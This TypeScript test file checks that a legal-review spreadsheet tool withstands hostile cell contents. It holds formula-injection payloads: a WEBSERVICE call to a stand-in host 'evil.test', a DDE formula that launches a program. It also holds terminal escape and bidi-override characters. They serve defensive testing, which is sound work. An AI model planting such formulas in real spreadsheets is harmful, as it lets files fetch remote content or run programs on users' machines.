import { amendPolicy, resolution03 } from 'haiphong-training-support';
import { describe, expect, test } from 'vitest';
import { texts } from '../../../test/hostile/corpus.js';
import { changesOf } from '../../../test/hostile/harmless.js';
import { lawRows } from '../../src/desk/law-sheet/rows.js';
import { FILLED_COLUMNS, type FilledColumn } from '../../src/read/law-sheet/layout.js';
import { faultLines } from '../../src/write/law-sheet/summary.js';
import { CHECKED, type Filling, OpenSheet } from './filling.js';

/** A row of each kind that the sheet has. */
const kinds = [...new Map(lawRows(resolution03).map(({ id }) => [id.split('/')[0], id])).values()];
const sheet = OpenSheet.of().tell({ ...CHECKED, whole: 'Có' });
const rows = sheet.ids.filter((id) => kinds.includes(id));

/** The columns of a row that can be filled in. */
const columnsOf = (id: string): readonly FilledColumn[] =>
  FILLED_COLUMNS.filter((column) => {
    try {
      return sheet.at(id, column) !== '';
    } catch {
      return false;
    }
  });
const filled = (id: string, text: string, conclusion: string): Filling =>
  Object.fromEntries(columnsOf(id).map((column) => [column, column === 'conclusion' ? conclusion : text]));

describe('a hostile text in every cell of a filled sheet is a fault at its cell, or the words of a policy', () => {
  test('there are rows of every kind to put it into', () => {
    expect(rows.length).toBeGreaterThan(8);
    for (const id of rows) expect(columnsOf(id).length).toBeGreaterThan(3);
  });

  test.each(texts)('%s', (_, text) => {
    const changes = changesOf(() => {
      for (const conclusion of ['sai', 'đúng', text]) {
        for (const id of rows) sheet.fill(id, filled(id, text, conclusion));
        sheet.tell({ title: text });
        const { faults, amendment } = sheet.judged();
        // What is at fault is told at a cell, in few words.
        for (const line of faultLines(faults, 'vi')) expect(line.length).toBeLessThan(1500);
        // What is not at fault is sound.
        if (faults.length === 0) expect(() => amendPolicy(resolution03, amendment)).not.toThrow();
      }
    });
    expect(changes).toEqual([]);
  });

  test.each([
    ['signs that a terminal would obey', 'a\u001b[2J\u0007\u009bb\u202egnidlew\u2066x'],
    ['formulas that fetch, without a result', { formula: 'WEBSERVICE("http://evil.test")' }],
    ['formulas that start a program, without a result', { formula: "cmd|' /C calc'!A0" }],
    ['an error', { error: '#REF!' as const }],
  ])('saved and read back: %s', async (_, value) => {
    const given = OpenSheet.of().tell(CHECKED);
    for (const id of rows) given.fill(id, { conclusion: 'sai', answer: value, wording: value, article: value });
    const { faults } = await given.judgedFromFile();
    expect(faults.length).toBeGreaterThan(rows.length / 2);
    for (const line of faultLines(faults, 'vi')) expect(line).not.toMatch(/(?![\t\n])\p{Cc}|[\u202a-\u202e\u2066-\u2069]/u);
  });
});
